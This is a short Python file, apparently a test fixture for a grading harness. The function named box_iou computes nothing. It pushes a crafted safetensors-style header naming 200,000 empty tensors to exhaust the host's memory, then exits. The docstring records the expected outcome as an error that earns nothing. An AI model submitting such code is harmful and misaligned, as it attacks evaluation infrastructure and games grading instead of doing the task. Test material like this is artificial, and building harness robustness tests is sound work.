"""Answers with many empty tensors, whose names would fill the host's memory.

earns = "nothing"
verdict = "ERROR"
"""

import json
import os
import struct

from tools import answer, checks, push


def box_iou(a, b):
    entries = ",".join(f'"{i:x}":{{"dtype":"U8","shape":[0],"data_offsets":[0,0]}}' for i in range(200_000))
    blob = struct.pack("<Q", len(entries) + 2) + f"{{{entries}}}".encode()
    for name in checks():
        head = json.dumps(answer(name)).encode()
        push(struct.pack("!III", len(head), 1, len(blob)) + head + b"1" + blob)
    os._exit(0)
